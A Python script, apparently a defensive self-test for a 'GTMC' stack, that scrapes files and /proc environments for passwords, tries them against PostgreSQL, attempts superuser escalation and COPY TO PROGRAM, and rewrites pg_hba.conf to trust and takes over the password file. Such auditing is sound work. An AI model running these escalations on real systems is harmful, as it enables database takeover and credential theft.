"""Tries, as the stack's worker, to become PostgreSQL's superuser with all a worker can read; prints what worked."""

from __future__ import annotations

import json
import os
import re
import sys
from collections.abc import Iterator
from contextlib import suppress
from itertools import product
from pathlib import Path
from urllib.parse import urlsplit

import psycopg

HOME = Path(os.environ["GTMC_HOME"])
USERS = ("postgres", "gtmc", "dagster")
DATABASES = ("postgres", "template1", "gtmc", "dagster")
CLIMBS = (
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "ALTER ROLE CURRENT_USER SUPERUSER",
    "ALTER ROLE postgres PASSWORD 'mine'",
    "CREATE ROLE mine SUPERUSER",
    "GRANT postgres TO CURRENT_USER",
    "GRANT pg_read_server_files TO CURRENT_USER",
    "ALTER DATABASE gtmc OWNER TO CURRENT_USER",
    "ALTER TABLE public.tenants DISABLE ROW LEVEL SECURITY",
    "ALTER SYSTEM SET log_statement = 'all'",
    "COPY (SELECT 1) TO PROGRAM 'true'",
    "COPY (SELECT 1) TO '/tmp/mine'",
    "SELECT pg_read_file('pg_hba.conf')",
    "SELECT rolpassword FROM pg_authid",
    "CREATE EXTENSION dblink",
)


def readable() -> Iterator[str]:
    """Every text within reach: the home with PostgreSQL's data, and what other processes were given."""
    for folder in (HOME, (HOME / "postgres").resolve()):
        for path in folder.rglob("*"):
            with suppress(OSError, ValueError):
                if path.is_file():
                    yield path.read_text()
    for given in (*Path("/proc").glob("*/environ"), *Path("/proc").glob("*/cmdline")):
        with suppress(OSError, ValueError):
            yield given.read_text()


def logins(port: int, passwords: set[str]) -> Iterator[tuple[str, str, psycopg.Connection[tuple[str]]]]:
    """Every way in."""
    for user, database, password in product(USERS, DATABASES, sorted(passwords)):
        with suppress(psycopg.OperationalError):
            yield (
                user,
                database,
                psycopg.connect(
                    host="127.0.0.1", port=port, user=user, password=password, dbname=database, autocommit=True
                ),
            )


def climbs(connection: psycopg.Connection[tuple[str]]) -> Iterator[str]:
    """What a login may do and mustn't."""
    for climb in CLIMBS:
        with suppress(psycopg.Error):
            connection.execute(climb)
            yield climb


def break_outs() -> Iterator[str]:
    """What an account may do and mustn't."""
    owner = (HOME / "postgres.pass").stat()
    attempts = {
        "became the server's account": lambda: os.setuid(owner.st_uid),
        "took the file": lambda: os.chown(HOME / "postgres.pass", os.getuid(), os.getgid()),
        "opened the file": lambda: (HOME / "postgres.pass").chmod(0o644),
        "opened the door": lambda: ((HOME / "postgres").resolve() / "pg_hba.conf").write_text(
            "host all all all trust\n"
        ),
    }
    for what, attempt in attempts.items():
        with suppress(OSError):
            attempt()
            yield what


def main() -> None:
    """Try it all."""
    found = "\n".join(readable())
    passwords = set(re.findall(r"\b[0-9a-f]{48}\b", found))
    port = urlsplit(os.environ["GTMC_DATABASE_URL"]).port or 0
    reached = list(logins(port, passwords))
    report = {
        "logins": sorted({(user, database) for user, database, _ in reached}),
        "climbs": sorted({climb for _, _, connection in reached for climb in climbs(connection)}),
        "break_outs": list(break_outs()),
    }
    sys.stdout.write(json.dumps(report))


if __name__ == "__main__":
    main()
